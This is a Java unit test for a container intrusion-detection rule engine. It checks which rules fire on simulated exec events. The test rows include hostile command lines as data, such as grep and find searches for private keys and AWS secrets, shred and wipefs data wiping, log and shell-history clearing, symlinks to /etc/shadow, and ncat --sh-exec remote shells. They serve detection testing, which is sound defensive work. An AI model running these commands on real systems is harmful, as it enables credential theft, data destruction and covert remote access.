package dev.dockward.rules;

import static java.util.stream.Collectors.toSet;
import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The bundled rules of {@code intrusion.yaml}, and the gaps closed in {@code process.yaml} (ncat's
 * long options, sudo's and PAM's files), over exec events in a container: each row is one exec,
 * made from the {@code exec_httpd_in_container} fixture with its program, exe and command line
 * replaced, and the exact rules it must raise (none for the ordinary commands). Every shell in a
 * container also raises {@code shell_in_container}: that one is left out of the comparison.
 */
class IntrusionRulesTest {
  private static final RuleEngine ENGINE =
      new RuleEngine(RuleLoader.load(RuleFiles.bundled()).ruleSet());

  private static Arguments exec(String program, String exe, String cmdline, String... rules) {
    return Arguments.of(program, exe, cmdline, List.of(rules));
  }

  static Stream<Arguments> execs() {
    return Stream.of(
        // Search Private Keys or Passwords
        exec(
            "grep",
            "/bin/busybox",
            "grep -rl BEGIN RSA PRIVATE KEY /home",
            "credential_search_in_container"),
        exec(
            "grep",
            "/usr/bin/grep",
            "grep -ri password /etc /opt/app",
            "credential_search_in_container"),
        exec("find", "/usr/bin/find", "find / -name id_rsa", "credential_search_in_container"),
        exec(
            "find",
            "/usr/bin/find",
            "find / -name *.pem -type f",
            "credential_search_in_container"),
        exec(
            "rg",
            "/usr/local/bin/rg",
            "rg -l OPENSSH PRIVATE KEY /",
            "credential_search_in_container"),
        exec("grep", "/bin/busybox", "grep root /etc/passwd"), // passwd is no password
        exec("grep", "/bin/busybox", "grep -r TODO /src"),
        exec("find", "/usr/bin/find", "find /var/cache -name *.tmp -delete"),
        exec("cat", "/bin/busybox", "cat /app/id_rsa.pub.txt"), // no search tool
        // Find AWS Credentials (and other clouds')
        exec(
            "find",
            "/usr/bin/find",
            "find / -path */.aws/* -name credentials",
            "cloud_credential_search_in_container"),
        exec(
            "grep",
            "/usr/bin/grep",
            "grep -r aws_secret_access_key /",
            "cloud_credential_search_in_container"),
        exec(
            "grep",
            "/usr/bin/grep",
            "grep -rE AKIA[0-9A-Z]{16} /srv",
            "cloud_credential_search_in_container"),
        exec(
            "find",
            "/usr/bin/find",
            "find /root -name application_default_credentials.json",
            "cloud_credential_search_in_container"),
        exec("grep", "/usr/bin/grep", "grep -r region /etc/app.conf"),
        // Remove Bulk Data from Disk
        exec(
            "shred",
            "/usr/bin/shred",
            "shred -uz /data/customers.db",
            "bulk_data_wipe_in_container"),
        exec("shred", "/bin/busybox", "shred -n 3 /srv/backup.tar", "bulk_data_wipe_in_container"),
        exec("wipefs", "/usr/sbin/wipefs", "wipefs -a /dev/sdb", "bulk_data_wipe_in_container"),
        exec(
            "x",
            "/usr/bin/srm",
            "x -r /data",
            "bulk_data_wipe_in_container"), // renamed: the exe's name
        exec("rm", "/bin/busybox", "rm -rf /tmp/build"),
        // the debugfs program
        exec(
            "debugfs", "/usr/sbin/debugfs", "debugfs -w /dev/sda1", "debugfs_program_in_container"),
        exec("cat", "/bin/busybox", "cat /sys/kernel/debug/x"),
        exec("grep", "/bin/busybox", "grep debugfs /proc/filesystems"),
        // Clear Log Activities
        exec(
            "truncate",
            "/usr/bin/truncate",
            "truncate -s 0 /var/log/auth.log",
            "log_clearing_in_container"),
        exec("shred", "/usr/bin/shred", "shred -u /var/log/syslog", "log_clearing_in_container"),
        exec("rm", "/bin/busybox", "rm -f /root/.bash_history", "log_clearing_in_container"),
        exec(
            "ln",
            "/bin/busybox",
            "ln -sf /dev/null /root/.ash_history",
            "log_clearing_in_container"),
        exec(
            "cp", "/bin/cp", "cp /dev/null /var/log/nginx/access.log", "log_clearing_in_container"),
        exec("sh", "/bin/busybox", "sh -c > /var/log/wtmp", "log_clearing_in_container"),
        exec(
            "sh",
            "/bin/busybox",
            "sh -c cat /dev/null > /var/log/secure; echo done",
            "log_clearing_in_container"),
        exec(
            "bash",
            "/usr/bin/bash",
            "bash -c id; : > /var/log/lastlog",
            "log_clearing_in_container"),
        exec("sh", "/bin/busybox", "sh -c echo >~/.bash_history", "log_clearing_in_container"),
        exec(
            "sh",
            "/bin/busybox",
            "sh -c app > /var/log/app.log 2>&1"), // a service's output to a log
        exec("sh", "/bin/busybox", "sh -c echo started >> /var/log/app.log"), // appending
        exec("tail", "/usr/bin/tail", "tail -f /var/log/app.log"),
        exec("cp", "/bin/cp", "cp /etc/app.conf /var/log/app.conf.bak"),
        // Execution from /dev/shm: a script given to an interpreter
        exec("sh", "/bin/busybox", "sh /dev/shm/.x", "script_from_temp_dir_in_container"),
        exec(
            "sh",
            "/bin/busybox",
            "/bin/sh /tmp/run.sh arg",
            "script_from_temp_dir_in_container"), // #! script
        exec("bash", "/usr/bin/bash", "bash -x /var/tmp/p.sh", "script_from_temp_dir_in_container"),
        exec(
            "python3.11",
            "/usr/bin/python3.11",
            "python3 -u /dev/shm/m.py",
            "script_from_temp_dir_in_container"),
        exec("perl", "/usr/bin/perl", "perl /tmp/p.pl", "script_from_temp_dir_in_container"),
        exec("sh", "/bin/busybox", "sh -c echo hi > /tmp/out"), // -c runs its argument
        exec("python3", "/usr/bin/python3", "python3 -c open('/tmp/x').read()"),
        exec("sh", "/bin/busybox", "sh /app/start.sh /tmp/cache"), // a temp dir as a later argument
        exec("cat", "/bin/busybox", "cat /dev/shm/x"),
        // Disallowed SSH Connection Non Standard Port
        exec(
            "ssh",
            "/usr/bin/ssh",
            "ssh -p 2222 admin@10.0.0.5",
            "ssh_to_non_standard_port_in_container"),
        exec(
            "ssh",
            "/usr/bin/ssh",
            "ssh -p443 -N -R 9000:localhost:22 u@example.org",
            "ssh_to_non_standard_port_in_container"),
        exec(
            "ssh",
            "/usr/bin/ssh",
            "ssh -o Port=8022 host",
            "ssh_to_non_standard_port_in_container"),
        exec(
            "ssh",
            "/usr/bin/ssh",
            "ssh ssh://root@10.0.0.5:2200",
            "ssh_to_non_standard_port_in_container"),
        exec(
            "scp",
            "/usr/bin/scp",
            "scp -P 2022 f u@h:/tmp",
            "ssh_to_non_standard_port_in_container"),
        exec("ssh", "/usr/bin/ssh", "ssh -p 22 admin@10.0.0.5"),
        exec("ssh", "/usr/bin/ssh", "ssh -p 022 admin@10.0.0.5"),
        exec("ssh", "/usr/bin/ssh", "ssh admin@10.0.0.5"),
        exec("ssh", "/usr/bin/ssh", "ssh ssh://root@10.0.0.5:22"),
        // Create Symlink / Hardlink Over Sensitive Files
        exec("ln", "/bin/busybox", "ln -s /etc/shadow /tmp/s", "sensitive_file_link_in_container"),
        exec(
            "ln",
            "/usr/bin/ln",
            "ln /etc/sudoers.d/90-users /tmp/h",
            "sensitive_file_link_in_container"),
        exec("ln", "/usr/bin/ln", "ln -sf / /tmp/r", "sensitive_file_link_in_container"),
        exec(
            "ln", "/usr/bin/ln", "ln -s /root /var/www/html/r", "sensitive_file_link_in_container"),
        exec("ln", "/usr/bin/ln", "ln -s /etc/nginx/sites-available/app /etc/nginx/sites-enabled/"),
        exec("ln", "/usr/bin/ln", "ln -s /usr/bin/python3 /usr/local/bin/python"),
        // ncat's long options
        exec(
            "ncat",
            "/usr/bin/ncat",
            "ncat --sh-exec sh 10.0.0.5 4444",
            "netcat_program_exec_in_container"),
        exec(
            "ncat",
            "/usr/bin/ncat",
            "ncat -l 4444 --exec=/bin/bash",
            "netcat_program_exec_in_container"),
        exec(
            "ncat",
            "/usr/bin/ncat",
            "ncat --lua-exec /tmp/x.lua 10.0.0.5 80",
            "netcat_program_exec_in_container"),
        exec("ncat", "/usr/bin/ncat", "ncat --ssl 10.0.0.5 443"),
        // PAM and sudo files: reading them is sensitive_file_read_in_container on the open itself
        // (collector SensitiveFiles marks them), never on an exec's command line
        exec("cat", "/bin/busybox", "cat /etc/pam.conf"),
        exec("ls", "/bin/busybox", "ls -l /etc/pam.d/"), // the directory, no file
        exec("cat", "/bin/busybox", "cat /etc/pam.d.bak"));
  }

  @ParameterizedTest(name = "{2} -> {3}")
  @MethodSource("execs")
  void execRaisesExactlyItsRules(String program, String exe, String cmdline, List<String> rules) {
    List<String> fired =
        fired(event(program, exe, cmdline, 0, List.of("pipe", "pipe", "pipe"), List.of()));
    assertEquals(
        Set.copyOf(rules),
        fired.stream().filter(r -> !r.equals("shell_in_container")).collect(toSet()));
  }

  static Stream<Arguments> sessions() {
    return Stream.of(
        // System user interactive
        Arguments.of(
            33,
            "sh",
            "sh",
            List.of("tty", "tty", "tty"),
            List.of(),
            true), // docker exec -it -u www-data
        Arguments.of(
            65534,
            "bash",
            "bash -i",
            List.of("tcp", "tcp", "tcp"),
            List.of(),
            true), // nobody's reverse shell
        Arguments.of(
            999, "sh", "-sh", List.of("pipe", "pipe", "pipe"), List.of(), true), // a login shell
        Arguments.of(
            101, "id", "id", List.of("pipe", "pipe", "pipe"), List.of("sshd"), true), // under sshd
        Arguments.of(
            33,
            "sh",
            "sh -c php-fpm -D",
            List.of("null", "pipe", "pipe"),
            List.of(),
            false), // a service
        Arguments.of(
            0, "sh", "sh", List.of("tty", "tty", "tty"), List.of(), false), // root: a shell rule's
        Arguments.of(
            1000, "sh", "sh", List.of("tty", "tty", "tty"), List.of(), false), // a person's account
        Arguments.of(
            33, "ls", "ls -la", List.of("tty", "tty", "tty"), List.of(), false), // not a shell
        Arguments.of(
            33,
            "sh",
            "sh -c ls -i",
            List.of("pipe", "pipe", "pipe"),
            List.of(),
            false)); // -i is ls's
  }

  @ParameterizedTest(name = "uid {0}: {2} on {3}")
  @MethodSource("sessions")
  void serviceAccountSessions(
      long uid,
      String program,
      String cmdline,
      List<String> stdio,
      List<String> ancestors,
      boolean fires) {
    List<String> fired = fired(event(program, "/bin/busybox", cmdline, uid, stdio, ancestors));
    assertEquals(fires, fired.contains("system_user_interactive_in_container"), fired.toString());
  }

  @Test
  void outsideAContainerNoneOfTheseRulesFires() {
    Map<String, Object> event =
        event("shred", "/usr/bin/shred", "shred -u /var/log/syslog", 0, List.of(), List.of());
    event.remove("container");
    assertEquals(List.of(), fired(event));
  }

  @Test
  void evidenceNamesWhatWasFound() {
    RuleMatch search =
        ENGINE
            .evaluate(
                event("grep", "/usr/bin/grep", "grep -ril password /etc", 0, List.of(), List.of()))
            .get(0);
    assertEquals(List.of("password"), search.evidence().get("terms"));
    RuleMatch link =
        ENGINE
            .evaluate(event("ln", "/usr/bin/ln", "ln -sf / /tmp/r", 0, List.of(), List.of()))
            .get(0);
    assertEquals("symbolic", link.evidence().get("kind"));
    RuleMatch hard =
        ENGINE
            .evaluate(
                event("ln", "/usr/bin/ln", "ln /etc/sudoers.d/x /tmp/h", 0, List.of(), List.of()))
            .stream()
            .filter(m -> m.rule().id().equals("sensitive_file_link_in_container"))
            .findFirst()
            .orElseThrow();
    assertEquals("hard", hard.evidence().get("kind"));
    RuleMatch log =
        ENGINE
            .evaluate(
                event(
                    "truncate",
                    "/usr/bin/truncate",
                    "truncate -s0 /var/log/a /root/.ash_history",
                    0,
                    List.of(),
                    List.of()))
            .get(0);
    assertEquals(List.of("/var/log/", "/.ash_history"), log.evidence().get("paths"));
    assertEquals(
        "debugfs (pid 4321) ran in container web (dockward/busybox:test, privileged false): debugfs /dev/sda1",
        ENGINE
            .evaluate(
                event("debugfs", "/sbin/debugfs", "debugfs /dev/sda1", 0, List.of(), List.of()))
            .get(0)
            .summary());
  }

  private static List<String> fired(Map<String, Object> event) {
    return Fixtures.firedIds(ENGINE, event);
  }

  @SuppressWarnings("unchecked")
  private static Map<String, Object> event(
      String program,
      String exe,
      String cmdline,
      long uid,
      List<String> stdio,
      List<String> ancestors) {
    Map<String, Object> event = Fixtures.event("exec_httpd_in_container");
    Map<String, Object> process = (Map<String, Object>) event.get("process");
    process.put("name", program.length() > 15 ? program.substring(0, 15) : program);
    process.put("program", program);
    process.put("exe", exe);
    process.put("cmdline", cmdline);
    process.put("uid", uid);
    process.put("euid", uid);
    process.put("stdio", stdio);
    List<Map<String, Object>> chain = new ArrayList<>();
    for (String a : ancestors) {
      chain.add(Map.of("pid", 4000L, "name", a, "exe", "/usr/sbin/" + a));
    }
    process.put("ancestors", chain);
    return event;
  }
}
